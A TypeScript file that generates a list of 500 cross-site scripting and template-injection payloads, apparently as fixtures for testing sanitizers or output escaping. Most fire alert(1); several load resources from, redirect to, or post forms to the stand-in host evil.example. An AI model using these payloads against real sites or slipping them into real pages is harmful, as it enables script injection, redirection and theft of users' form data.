/** Five hundred texts that would do something where text is taken for markup, code or an address. */
const BODIES = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mtext></table></math><img src onerror=alert(1)>',
  '</textarea><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "' onmouseover='alert(1)",
  '<style>@import "//evil.example";</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<base href="//evil.example/">',
  '<form action=//evil.example><button>x',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
]
const WRAPPERS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => ` ${text}\u0000`,
  (text) => `\n${text.replaceAll('<', '<\n')}`,
  (text) => `${text}${text}`,
]
/** Out of the places where markup could end up. */
const BREAKS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `x">${text}`,
  (text) => `'>${text}`,
  (text) => `-->${text}<!--`,
  (text) => `]]>${text}`,
]
export const PAYLOADS: readonly string[] = BODIES.flatMap((body) =>
  WRAPPERS.flatMap((wrap) => BREAKS.map((leave) => leave(wrap(body)))),
)
